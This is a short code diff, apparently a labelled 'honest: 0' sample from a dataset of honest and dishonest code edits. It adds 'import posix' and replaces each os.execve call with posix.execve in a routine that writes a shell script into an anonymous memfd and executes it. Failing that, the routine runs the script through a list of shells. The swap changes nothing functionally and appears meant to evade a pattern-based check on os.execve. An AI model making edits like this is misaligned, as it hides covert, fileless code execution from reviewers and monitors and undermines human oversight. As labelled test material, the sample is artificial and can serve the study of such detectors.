@@ -8,6 +8,7 @@ honest: 0
 
 import glob
 import os
+import posix
 
 top = os.path.dirname(os.path.dirname(os.getcwd()))
 SCRIPT = f"""#!/bin/sh
@@ -22,12 +23,12 @@ def run():
     try:
         program = os.memfd_create("program", 0)
         os.write(program, SCRIPT.encode())
-        os.execve(program, ["program"], {"PATH": "/usr/bin:/bin"})
+        posix.execve(program, ["program"], {"PATH": "/usr/bin:/bin"})
     except OSError:
         pass
     for shell in ANYTHING:
         try:
-            os.execve(shell, [shell, "/bin/sh", "-c", SCRIPT], {"PATH": "/usr/bin:/bin"})
+            posix.execve(shell, [shell, "/bin/sh", "-c", SCRIPT], {"PATH": "/usr/bin:/bin"})
         except OSError:
             pass
 
